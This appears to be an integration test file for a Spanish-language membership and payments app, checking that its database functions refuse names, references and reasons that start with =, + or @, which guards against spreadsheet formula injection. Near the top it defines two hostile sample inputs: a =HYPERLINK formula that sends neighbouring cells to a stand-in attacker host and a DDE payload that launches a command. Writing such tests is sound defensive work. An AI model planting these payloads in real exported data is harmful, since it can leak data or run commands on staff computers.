// Issue 23 §1, the database's half: text people type that reaches staff's spreadsheets and the bank's
// payment file may not start with =, + or @ (a spreadsheet would run it as a formula: =HYPERLINK
// sends the neighbouring cells away). Each path a member or staff member types through refuses it
// with one Spanish sentence naming the field (DETAIL), and nothing is written. The exports neutralise
// their text cells besides (src/lib/export, unit tests).
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { memberPersona, staffPersona, type Persona } from './fixtures/personas';
import { unique } from './fixtures/auth-helpers';
import { sql } from './support';

const HYPERLINK = '=HYPERLINK("https://atacante.test/?d="&B2&C2,"Ver comprobante")';
const CMD = "=cmd|' /C calc'!A0";

let member: Persona & { clientId: string };
let admin: Persona;
let superadmin: Persona;
let kitId: string;
let productId: string;

beforeAll(async () => {
  [member, admin, superadmin] = await Promise.all([memberPersona(), staffPersona('admin'), staffPersona('superadmin')]);
  const tag = crypto.randomUUID().slice(0, 8);
  [{ id: kitId }] = await sql<{ id: string }>(
    `insert into public.products (sku, name, price, points, stock, is_kit) values ($1, 'Kit de fórmulas', 80, 40, 10, true) returning id`,
    [`FORM-KIT-${tag}`],
  );
  [{ id: productId }] = await sql<{ id: string }>(
    `insert into public.products (sku, name, price, points, stock) values ($1, 'Té de fórmulas', 10, 10, 10) returning id`,
    [`FORM-${tag}`],
  );
});
afterAll(async () => {
  await sql('update public.products set is_active = false where id = any ($1::uuid[])', [[kitId, productId]]);
});

const refusal = (what: string, field: string) => ({
  code: 'P0001',
  hint: 'savia:formula_not_allowed',
  details: field,
  message: `No empieces ${what} con =, + ni @: una hoja de cálculo ejecutaría ese texto como una fórmula.`,
});

describe('lo que escribe un miembro', () => {
  it('enrol_member: el nombre o el documento de la persona enrolada', async () => {
    for (const [field, value, what] of [
      ['p_name', HYPERLINK, 'el nombre'],
      ['p_document_number', '@SUMA(1;1)', 'el documento'],
      ['p_name', '  +57 300 000 0000', 'el nombre'],
    ] as const) {
      const email = unique('formula');
      const answer = await member.client.rpc('enrol_member', {
        p_name: 'Persona Nueva',
        p_email: email,
        p_kit_id: kitId,
        p_payment_method: 'efectivo',
        [field]: value,
      });
      expect(answer.error).toMatchObject(refusal(what, field === 'p_name' ? 'name' : 'document_number'));
      expect(await sql('select 1 from public.clients where email = $1', [email])).toEqual([]);
    }
  });

  it('place_order: la referencia del pago', async () => {
    const before = await sql('select count(*)::int as n from public.sales where client_id = $1', [member.clientId]);
    const answer = await member.client.rpc('place_order', {
      p_items: [{ product_id: productId, quantity: 1 }],
      p_payment_method: 'transferencia',
      p_payment_reference: '@SUM(A1:A9)',
    });
    expect(answer.error).toMatchObject(refusal('la referencia del pago', 'payment_reference'));
    expect(await sql('select count(*)::int as n from public.sales where client_id = $1', [member.clientId])).toEqual(before);
  });

  it('request_payout: los datos de pago de «Solicitar retiro», antes de mirar el saldo', async () => {
    const answer = await member.client.rpc('request_payout', { p_amount: 20_000, p_payment_details: CMD });
    expect(answer.error).toMatchObject(refusal('los datos de pago', 'payment_details'));
  });

  it('lo demás se escribe tal cual: un guion o un igual en medio no es una fórmula', async () => {
    const answer = await member.client
      .rpc('place_order', { p_items: [{ product_id: productId, quantity: 1 }], p_payment_method: 'transferencia', p_payment_reference: '-0042 = abono' })
      .single<{ id: string; payment_reference: string }>();
    expect(answer.error).toBeNull();
    expect(answer.data?.payment_reference).toBe('-0042 = abono');
    expect((await member.client.rpc('cancel_sale', { p_sale_id: answer.data!.id })).error).toBeNull();
  });
});

describe('lo que escribe el personal', () => {
  it('update_client_contact: el nombre de un miembro', async () => {
    const profile = await admin.client.rpc('update_client_contact', { p_client_id: member.clientId, p_name: HYPERLINK, p_email: member.email });
    expect(profile.error).toMatchObject(refusal('el nombre', 'name'));
    expect(await sql('select name from public.clients where id = $1', [member.clientId])).toEqual([{ name: 'Miembro de Prueba' }]);
  });

  it('cancel_sale: el motivo, que llega al libro de recompensas y a su exportación', async () => {
    const order = await member.client
      .rpc('place_order', { p_items: [{ product_id: productId, quantity: 1 }], p_payment_method: 'efectivo' })
      .single<{ id: string }>();
    expect(order.error).toBeNull();
    const answer = await admin.client.rpc('cancel_sale', { p_sale_id: order.data!.id, p_reason: '+Devolución' });
    expect(answer.error).toMatchObject(refusal('el motivo de la cancelación', 'cancellation_reason'));
    expect(await sql('select status from public.sales where id = $1', [order.data!.id])).toEqual([{ status: 'Pendiente de Aprobación' }]);
    expect((await admin.client.rpc('cancel_sale', { p_sale_id: order.data!.id, p_reason: 'Devolución' })).error).toBeNull();
  });

  it('pay_payout y reject_payout: la referencia y el motivo, que van al CSV de Pagos', async () => {
    const someone = crypto.randomUUID();
    expect((await admin.client.rpc('pay_payout', { p_payout_id: someone, p_reference: HYPERLINK })).error).toMatchObject(
      refusal('la referencia del pago', 'reference'),
    );
    expect((await admin.client.rpc('reject_payout', { p_payout_id: someone, p_reason: '@Cuenta errada' })).error).toMatchObject(
      refusal('el motivo del rechazo', 'reason'),
    );
  });

  it('save_product y save_supplier: los nombres del catálogo y de los proveedores', async () => {
    const product = await superadmin.client.rpc('save_product', {
      p_id: null,
      p_sku: `FORM-N-${Date.now()}`,
      p_name: '=1+1',
      p_price: 10,
      p_commissionable_amount: 10,
      p_points: 1,
    });
    expect(product.error).toMatchObject(refusal('el nombre del producto', 'name'));
    const supplier = await superadmin.client.rpc('save_supplier', {
      p_id: null,
      p_name: '@Proveedor',
      p_tax_id: null,
      p_contact_name: null,
      p_email: null,
      p_phone: null,
      p_notes: null,
      p_is_active: true,
      p_product_ids: [],
    });
    expect(supplier.error).toMatchObject(refusal('el nombre del proveedor', 'name'));
    expect(await sql(`select 1 from public.suppliers where name = '@Proveedor'`)).toEqual([]);
  });
});
